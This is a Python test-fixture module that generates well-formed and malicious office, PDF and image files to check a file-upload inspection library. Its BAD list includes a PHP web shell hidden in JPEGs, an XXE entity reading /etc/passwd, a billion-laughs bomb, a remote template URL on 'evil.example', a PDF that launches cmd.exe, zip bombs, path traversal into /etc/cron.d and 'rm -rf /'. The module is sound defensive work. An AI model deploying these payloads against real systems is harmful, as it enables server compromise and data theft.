"""Files as owners and attackers send them, made here."""

import io
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from openpyxl import Workbook
from PIL import Image
from reportlab.pdfgen.canvas import Canvas

from msme.inspection import DOCX, EICAR, JPEG, LARGEST, PDF, PNG, XLSX


def pdf(pages: int = 1, text: str = "Balance sheet") -> bytes:
    made = io.BytesIO()
    canvas = Canvas(made, pageCompression=0)
    for number in range(pages):
        canvas.drawString(100, 700, f"{text}, page {number + 1}")
        canvas.showPage()
    canvas.save()
    return made.getvalue()


def changed_pdf(change: Callable[[pikepdf.Pdf], None], **saving: Any) -> bytes:
    with pikepdf.open(io.BytesIO(pdf())) as document:
        change(document)
        made = io.BytesIO()
        document.save(made, **saving)
    return made.getvalue()


def picture(kind: str = "JPEG", **saving: Any) -> bytes:
    made = io.BytesIO()
    Image.linear_gradient("L").convert("RGB").resize((64, 48)).save(made, kind, **saving)
    return made.getvalue()


def picture_with_place() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Canary Camera"
    exif.get_ifd(0x8825)[1] = "N"
    return picture(exif=exif)


def spreadsheet() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["fiscal_year", "revenue_inr"])
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


WORD = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def archive(members: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return made.getvalue()


def letter(**more: bytes | str) -> bytes:
    members: dict[str, bytes | str] = {"[Content_Types].xml": TYPES, "word/document.xml": WORD}
    return archive({**members, **{name.replace("__", "/"): content for name, content in more.items()}})


def with_parts(parts: dict[str, bytes | str]) -> bytes:
    return archive({"[Content_Types].xml": TYPES, "word/document.xml": WORD, **parts})


def lying_directory() -> bytes:
    """A member that unpacks to more than the archive's directory says."""
    packed = bytearray(with_parts({"word/media/a.xml": b"<a>" + b"x" * 200_000 + b"</a>"}))
    real, told = (200_007).to_bytes(4, "little"), (100).to_bytes(4, "little")
    return bytes(packed.replace(real, told))


def png_header_of(width: int, height: int) -> bytes:
    """A PNG that says it is enormous."""
    body = b"IHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    chunk = (13).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")
    data = zlib.compress(b"\x00" * 1000)
    middle = len(data).to_bytes(4, "big") + b"IDAT" + data + zlib.crc32(b"IDAT" + data).to_bytes(4, "big")
    return b"\x89PNG\r\n\x1a\n" + chunk + middle + b"\x00\x00\x00\x00IEND\xaeB`\x82"


def _javascript(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    document.Root.OpenAction = document.make_indirect(action)


def _launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def _attachment(document: pikepdf.Pdf) -> None:
    document.attachments["other.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")


XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'
)
REMOTE = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)

GOOD: dict[str, tuple[str, bytes]] = {
    "pdf": (PDF, pdf(3)),
    "jpeg": (JPEG, picture()),
    "jpeg with a place": (JPEG, picture_with_place()),
    "png": (PNG, picture("PNG")),
    "spreadsheet": (XLSX, spreadsheet()),
    "letter": (DOCX, letter()),
    "letter with a link": (DOCX, with_parts({"word/_rels/document.xml.rels": REMOTE.format(kind="hyperlink")})),
}

BAD: dict[str, tuple[str, bytes, str]] = {
    "nothing": (PDF, b"", "empty"),
    "one byte too many": (PDF, pdf().ljust(LARGEST + 1, b"\x00"), "too_large"),
    "EICAR": (PDF, EICAR, "virus"),
    "EICAR in a PDF": (PDF, pdf()[:-6] + b"%" + EICAR + b"\n%%EOF", "virus"),
    "EICAR in a letter": (DOCX, with_parts({"word/media/a.txt": EICAR}), "virus"),
    "a program": (PDF, b"MZ\x90\x00" + b"\x00" * 200, "wrong_type"),
    "a script": (JPEG, b"#!/bin/sh\nrm -rf /\n", "wrong_type"),
    "a page": (PNG, b"<html><script>alert(1)</script></html>", "wrong_type"),
    "an SVG": (PNG, b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "wrong_type"),
    "a PDF called JPEG": (JPEG, pdf(), "wrong_type"),
    "a PNG called JPEG": (JPEG, picture("PNG"), "wrong_type"),
    "a GIF called PNG": (PNG, picture("GIF"), "wrong_type"),
    "a letter called spreadsheet": (XLSX, letter(), "wrong_type"),
    "a plain zip": (DOCX, archive({"a.txt": "a"}), "wrong_type"),
    "an old office file": (XLSX, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "wrong_type"),
    "a PDF behind junk": (PDF, b"GIF89a" + pdf(), "wrong_type"),
    "a PDF cut off": (PDF, pdf()[:400], "damaged"),
    "a PDF of nonsense": (PDF, b"%PDF-1.7\nnonsense\n%%EOF\n", "damaged"),
    "a zip behind a PDF": (PDF, pdf() + archive({"a.txt": "a"}), "polyglot"),
    "a page behind a PDF": (PDF, pdf() + b"<script>alert(1)</script>", "polyglot"),
    "a PDF with a script": (PDF, changed_pdf(_javascript), "active_content"),
    "a PDF that starts a program": (PDF, changed_pdf(_launch), "active_content"),
    "a PDF with an attachment": (PDF, changed_pdf(_attachment), "active_content"),
    "a PDF with a password": (
        PDF,
        changed_pdf(lambda _: None, encryption=pikepdf.Encryption(owner="a", user="b")),
        "encrypted",
    ),
    "a JPEG cut off": (JPEG, picture()[:300], "damaged"),
    "a zip behind a JPEG": (JPEG, picture() + archive({"a.class": "a"}), "polyglot"),
    "PHP behind a JPEG": (JPEG, picture() + b"<?php system($_GET[0]); ?>", "polyglot"),
    "PHP in a JPEG's comment": (JPEG, picture(comment=b"<?php system($_GET[0]); ?>"), "polyglot"),
    "a zip behind a PNG": (PNG, picture("PNG") + archive({"a.txt": "a"}), "polyglot"),
    "a PNG of 90,000 by 90,000": (PNG, png_header_of(90_000, 90_000), "bomb"),
    "a zip bomb": (DOCX, with_parts({"word/media/a.xml": b"<a>" + b"0" * 60_000_000 + b"</a>"}), "bomb"),
    "a bomb of many members": (DOCX, with_parts({f"word/{n}.xml": "<a/>" for n in range(2_100)}), "bomb"),
    "a directory that lies": (DOCX, lying_directory(), "damaged"),
    "XXE": (DOCX, with_parts({"word/settings.xml": XXE}), "active_content"),
    "a billion laughs": (DOCX, with_parts({"word/settings.xml": LAUGHS}), "active_content"),
    "a template from elsewhere": (
        DOCX,
        with_parts({"word/_rels/settings.xml.rels": REMOTE.format(kind="attachedTemplate")}),
        "active_content",
    ),
    "macros": (DOCX, with_parts({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "active_content"),
    "macros by another name": (DOCX, with_parts({"word/media/a.png": b"\xd0\xcf\x11\xe0" * 9}), "active_content"),
    "an embedded program": (DOCX, with_parts({"word/embeddings/a.bin": b"MZ"}), "active_content"),
    "a zip in a letter": (DOCX, with_parts({"word/media/a.dat": archive({"a": "a"})}), "active_content"),
    "a way out of the folder": (DOCX, with_parts({"../../etc/cron.d/a": "a"}), "polyglot"),
    "a letter behind a zip": (DOCX, archive({"a.txt": "a"}) + letter(), "polyglot"),
    "something behind a letter": (DOCX, letter() + b"<script>alert(1)</script>", "polyglot"),
    "broken XML": (DOCX, with_parts({"word/settings.xml": "<a><b></a>"}), "damaged"),
}
